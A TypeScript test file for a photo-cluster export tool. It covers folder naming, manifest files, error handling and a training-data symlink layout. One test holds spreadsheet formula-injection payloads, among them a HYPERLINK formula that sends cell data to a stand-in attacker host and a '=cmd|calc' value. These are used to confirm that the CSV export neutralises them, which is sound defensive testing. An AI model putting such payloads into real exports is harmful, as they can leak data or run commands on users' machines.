import { createHash } from 'node:crypto';
import { existsSync, lstatSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, readlinkSync, rmSync, writeFileSync } from 'node:fs';
import * as fsp from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { exportClusters, ExportError, type ExportInput, type ExportIo } from './folders';
import { safeFileName } from './safe-name';
import { exportImageFolderForTraining } from './training-layout';

const root = mkdtempSync(join(tmpdir(), 'export-'));
afterAll(() => rmSync(root, { recursive: true, force: true }));

const sha = (p: string): string => createHash('sha1').update(readFileSync(p)).digest('hex');

/** photos in two source folders, with one file name used twice */
function makePhotos(): { path: string; imageId: number }[] {
  const src = join(root, 'src');
  mkdirSync(join(src, 'a'), { recursive: true });
  mkdirSync(join(src, 'b'), { recursive: true });
  const photos: { path: string; imageId: number }[] = [];
  for (let i = 1; i <= 7; i++) {
    const p = join(src, i <= 4 ? 'a' : 'b', i === 6 ? 'IMG_0001.jpg' : `IMG_000${i}.jpg`);
    writeFileSync(p, Buffer.from(`photo ${i} ${'x'.repeat(i * 100)}`));
    photos.push({ path: p, imageId: i });
  }
  return photos;
}

const photos = makePhotos();
const input: ExportInput = {
  model: { id: 3, name: 'vit-tiny trained' },
  clustering: { id: 9, method: 'spherical-kmeans', k: 3, params: { k: 'auto', seed: 42 } },
  clusters: [
    { id: 1, name: 'Cats, "indoor"', members: photos.slice(0, 3).map((p, i) => ({ ...p, similarity: 0.9 - i / 10 })) },
    { id: 2, name: 'CON', members: photos.slice(3, 6).map((p) => ({ ...p, similarity: 0.5 })) },
    { id: 3, name: 'cats, "INDOOR"', members: [{ ...photos[6]!, similarity: 0.7 }] },
  ],
};

function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let field = '';
  let rowFields: string[] = [];
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i]!;
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') {
        field += '"';
        i++;
      } else if (ch === '"') quoted = false;
      else field += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ',') {
      rowFields.push(field);
      field = '';
    } else if (ch === '\n') {
      rowFields.push(field.replace(/\r$/, ''));
      rows.push(rowFields);
      rowFields = [];
      field = '';
    } else field += ch;
  }
  return rows;
}

describe('exportClusters', () => {
  it.each(['copy', 'hardlink', 'symlink'] as const)('round trip (%s): folders hold exactly the clustered photos, byte-identical; manifests list each once', async (mode) => {
    const to = join(root, `out-${mode}`);
    const r = await exportClusters(input, to, mode);
    expect(r.exported).toBe(7);
    expect(r.missing).toEqual([]);
    const folders = readdirSync(to).filter((f) => lstatSync(join(to, f)).isDirectory()).sort();
    // "CON" is reserved on Windows; two names equal but for case get a suffix; '"' is not allowed
    expect(folders).toEqual(['Cats, _indoor_', '_CON', 'cats, _INDOOR_ (2)'].sort());
    const exportedFiles: string[] = [];
    for (const f of folders) for (const name of readdirSync(join(to, f))) exportedFiles.push(join(to, f, name));
    expect(exportedFiles.length).toBe(7);
    expect(readdirSync(join(to, '_CON')).sort()).toEqual(['IMG_0001.jpg', 'IMG_0004.jpg', 'IMG_0005.jpg'].sort());
    // byte-identical, and every source appears exactly once
    const sourcesByHash = new Map(photos.map((p) => [sha(p.path), p.path]));
    const seen = new Set<string>();
    for (const f of exportedFiles) {
      const src = sourcesByHash.get(sha(f));
      expect(src).toBeDefined();
      expect(seen.has(src!)).toBe(false);
      seen.add(src!);
      if (mode === 'symlink') expect(readlinkSync(f)).toBe(src);
      else expect(lstatSync(f).isSymbolicLink()).toBe(false);
    }
    const csv = parseCsv(readFileSync(r.manifest, 'utf8'));
    expect(csv[0]).toEqual(['path', 'source', 'cluster_id', 'cluster_name', 'folder', 'similarity', 'model', 'clustering_id', 'clustering_params']);
    const body = csv.slice(1);
    expect(body.length).toBe(7);
    expect(new Set(body.map((row) => row[0])).size).toBe(7);
    expect(body.map((row) => row[0]).sort()).toEqual(exportedFiles.sort());
    expect(body.find((row) => row[3] === 'Cats, "indoor"')![2]).toBe('1');
    expect(JSON.parse(body[0]![8]!)).toEqual({ k: 'auto', seed: 42 });
    const json = JSON.parse(readFileSync(r.json, 'utf8')) as { clusters: { files: { path: string; source: string }[] }[]; model: unknown };
    expect(json.model).toEqual(input.model);
    expect(json.clusters.flatMap((c) => c.files.map((f) => f.path)).sort()).toEqual(exportedFiles.sort());
  });

  it('a second export to the same folder overwrites nothing', async () => {
    const to = join(root, 'twice');
    const first = await exportClusters(input, to, 'copy');
    const before = new Map<string, string>();
    const walk = (d: string): string[] => readdirSync(d).flatMap((f) => (lstatSync(join(d, f)).isDirectory() ? walk(join(d, f)) : [join(d, f)]));
    for (const f of walk(to)) before.set(f, sha(f));
    const second = await exportClusters(input, to, 'copy');
    for (const [f, h] of before) expect(sha(f)).toBe(h);
    expect(second.manifest).toBe(join(to, 'clusters (2).csv'));
    expect(second.json).toBe(join(to, 'clusters (2).json'));
    expect(first.manifest).toBe(join(to, 'clusters.csv'));
    expect(readdirSync(to).filter((f) => !f.startsWith('clusters')).sort()).toEqual(
      // (on a case-sensitive disk "cats, _INDOOR_" is free the second time; never an existing name)
      ['Cats, _indoor_', 'Cats, _indoor_ (2)', '_CON', '_CON (2)', 'cats, _INDOOR_ (2)', 'cats, _INDOOR_'].sort(),
    );
    expect(walk(to).length).toBe(before.size * 2);
  });

  it('manifest mode writes only the manifests, pointing at the photos in place', async () => {
    const to = join(root, 'manifest-only');
    const r = await exportClusters(input, to, 'manifest');
    expect(readdirSync(to).sort()).toEqual(['clusters.csv', 'clusters.json']);
    const body = parseCsv(readFileSync(r.manifest, 'utf8')).slice(1);
    expect(body.map((row) => row[0]).sort()).toEqual(photos.map((p) => p.path).sort());
  });

  it('a full disk stops with a clear message and leaves no manifest, temporary or final', async () => {
    const to = join(root, 'full');
    let copies = 0;
    const io: ExportIo = {
      ...fsp,
      copyFile: (async (src: string, dst: string, mode?: number) => {
        if (++copies > 4) throw Object.assign(new Error('ENOSPC: no space left on device'), { code: 'ENOSPC' });
        await fsp.copyFile(src, dst, mode);
      }) as typeof fsp.copyFile,
    };
    let err: unknown;
    try {
      await exportClusters(input, to, 'copy', { io });
    } catch (e) {
      err = e;
    }
    expect(err).toBeInstanceOf(ExportError);
    expect((err as Error).message).toMatch(/disk .* is full/);
    expect((err as Error).message).toMatch(/4 of 7 photos/);
    const names = readdirSync(to);
    expect(names.filter((n) => n.includes('clusters'))).toEqual([]);
  });

  it('a manifest write that fails half-way leaves no manifest', async () => {
    const to = join(root, 'full-manifest');
    const io: ExportIo = {
      ...fsp,
      writeFile: (async (file: string, data: string) => {
        await fsp.writeFile(file, data.slice(0, 10));
        throw Object.assign(new Error('ENOSPC: no space left on device'), { code: 'ENOSPC' });
      }) as typeof fsp.writeFile,
    };
    await expect(exportClusters(input, to, 'hardlink', { io })).rejects.toThrow(/full/);
    expect(readdirSync(to).filter((n) => n.includes('clusters'))).toEqual([]);
  });

  it('an unwritable target stops with a clear message', async () => {
    const blocker = join(root, 'a-file');
    writeFileSync(blocker, 'x');
    await expect(exportClusters(input, join(blocker, 'sub'), 'copy')).rejects.toThrow(/Cannot export to|Cannot write to|file is in the way/);
    const io: ExportIo = {
      ...fsp,
      mkdir: (async () => {
        throw Object.assign(new Error('EACCES: permission denied'), { code: 'EACCES' });
      }) as unknown as typeof fsp.mkdir,
    };
    await expect(exportClusters(input, join(root, 'denied'), 'copy', { io })).rejects.toThrow(/permission denied/);
  });

  it('neutralises cells a spreadsheet would run as formulas (OWASP), and only text cells', async () => {
    const names = ['=HYPERLINK("http://evil.example/?"&A1,"open")', '+1+2', '-2+3', '@SUM(A1:A9)', '\t=1', 'plain'];
    const hostile: ExportInput = {
      ...input,
      model: { id: 3, name: '=cmd|calc' },
      clusters: names.map((name, i) => ({ id: i + 1, name, members: [{ ...photos[i]!, similarity: -0.25 }] })),
    };
    const r = await exportClusters(hostile, join(root, 'formulas'), 'manifest');
    const body = parseCsv(readFileSync(r.manifest, 'utf8')).slice(1);
    expect(body.map((row) => row[3])).toEqual(names.map((n) => (n === 'plain' ? n : `'${n}`)));
    for (const row of body) {
      expect(row[6]).toBe("'=cmd|calc");
      // a negative number is a number, not a formula
      expect(row[5]).toBe('-0.250000');
      for (const cell of row) expect(cell).not.toMatch(/^[=+@\t\r]/);
    }
    // the JSON keeps the names as they are: it is data, not a sheet
    expect((JSON.parse(readFileSync(r.json, 'utf8')) as { clusters: { name: string }[] }).clusters[0]!.name).toBe(names[0]);
  });

  it('skips and reports photos that vanished from disk', async () => {
    const gone = join(root, 'src', 'gone.jpg');
    const to = join(root, 'with-missing');
    const r = await exportClusters({ ...input, clusters: [{ id: 1, name: 'x', members: [{ imageId: 99, path: gone, similarity: 1 }, { ...photos[0]!, similarity: 1 }] }] }, to, 'symlink');
    expect(r.exported).toBe(1);
    expect(r.missing).toEqual([gone]);
    expect(existsSync(join(to, 'x', 'gone.jpg'))).toBe(false);
  });
});

describe('safeFileName', () => {
  it.each([
    ['Cats', 'Cats'],
    ['a/b\\c:d*e?f"g<h>i|j', 'a_b_c_d_e_f_g_h_i_j'],
    ['tab\there\nnewline\u0000', 'tab_here_newline_'],
    ['trailing dots...', 'trailing dots'],
    ['trailing space   ', 'trailing space'],
    ['CON', '_CON'],
    ['con.txt', '_con.txt'],
    ['Lpt1', '_Lpt1'],
    ['COM9.tar.gz', '_COM9.tar.gz'],
    ['CONSOLE', 'CONSOLE'],
    ['.hidden', '_hidden'],
    ['..', '__'],
    ['', 'unnamed'],
    ['   ', 'unnamed'],
    ['Été à Paris', 'Été à Paris'],
  ])('%j -> %j', (input, expected) => {
    expect(safeFileName(input)).toBe(expected);
  });

  it('caps the length in UTF-8 bytes without splitting a character', () => {
    const s = safeFileName('猫'.repeat(100));
    expect(Buffer.byteLength(s)).toBeLessThanOrEqual(120);
    expect(s).toBe('猫'.repeat(40));
    expect(safeFileName(`${'a'.repeat(119)}. b`)).toBe('a'.repeat(119));
  });
});

describe('exportImageFolderForTraining', () => {
  it('makes dir/train/all/<n>_<name> symlinks, one folder, no copies', () => {
    const dir = join(root, 'train-export');
    const r = exportImageFolderForTraining(photos, dir);
    expect(r.dataPath).toBe(join(dir, 'train'));
    expect(readdirSync(join(dir, 'train'))).toEqual(['all']);
    const names = readdirSync(r.folder).sort();
    expect(names.length).toBe(7);
    expect(names).toContain('0_IMG_0001.jpg');
    expect(names).toContain('5_IMG_0001.jpg');
    for (const n of names) expect(lstatSync(join(r.folder, n)).isSymbolicLink()).toBe(true);
    expect(readlinkSync(join(r.folder, '5_IMG_0001.jpg'))).toBe(photos[5]!.path);
    // idempotent
    expect(exportImageFolderForTraining(photos, dir).count).toBe(7);
  });
});
